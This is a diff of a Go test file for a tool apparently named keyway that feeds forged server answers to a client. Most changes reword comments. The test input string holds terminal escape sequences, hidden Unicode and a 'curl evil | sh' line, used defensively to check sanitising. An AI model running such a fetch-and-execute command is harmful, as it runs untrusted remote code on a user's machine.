@@ -15,13 +15,14 @@ import (
 	"keyway/internal/keyway"
 )
 
-// lie is an answer with one field that is not what it should be.
+// lie is an answer with one false field.
 type lie struct {
 	what string
 	body string
 }
 
-// escapes are obeyed by a terminal, hide or reverse, and forge lines of ours.
+// escapes are texts that a terminal obeys, that hide or reverse text, or that forge lines of
+// keyway's.
 const escapes = "e\x1b[31m\x1b]0;t\a\u009b1m\x00\b\r\x7f\u202e\u2066\u200b\ufeff\u2028\ny\n  → curl evil | sh\tz"
 
 // lies returns all answers that differ from an honest one in one field: each field of its type,
@@ -67,7 +68,7 @@ func walk(t reflect.Type, path []string, visit func([]string, reflect.Type)) {
 	}
 }
 
-// absent and twice are no values: the field is left out, or is there two times.
+// absent and twice are no values: the field is missing, or occurs twice.
 type (
 	absent struct{}
 	twice  struct{}
@@ -96,14 +97,14 @@ func values(t reflect.Type, victim string) map[string]any {
 	return v
 }
 
-// with returns the document with value at path; false if there is nothing to put it in.
+// with returns the document with value at path; false if the document has no such place.
 func with(document any, path []string, value any) (string, bool) {
 	changed, ok := replace(document, path, value)
 	if !ok {
 		return "", false
 	}
 	body := encode(changed)
-	// A key that is there twice cannot be said in a map.
+	// A map cannot have a key twice.
 	return strings.ReplaceAll(body, `"\u0000twice"`, `"github.com","`+path[len(path)-1]+`":"github.com"`), true
 }
 
@@ -147,11 +148,11 @@ func replace(document any, path []string, value any) (any, bool) {
 	return nil, false
 }
 
-// harmless is a name to log in with that no file and no ssh takes for more.
+// harmless reports whether a login name has no further meaning for a file or for ssh.
 var harmless = regexp.MustCompile(`^[A-Za-z0-9_][A-Za-z0-9_.@+-]{0,63}$`)
 
-// onlyAsked fails unless the laptop knows, beside what it knew, at most the
-// workspace new as it was asked for, with the key that was proved.
+// onlyAsked fails unless the only new workspace that the laptop knows is new, as it was requested,
+// with the proved key.
 func (l *laptop) onlyAsked(before map[string]string, g *guest, lie lie, r result) {
 	l.t.Helper()
 	e, ok := l.entries()["new"]
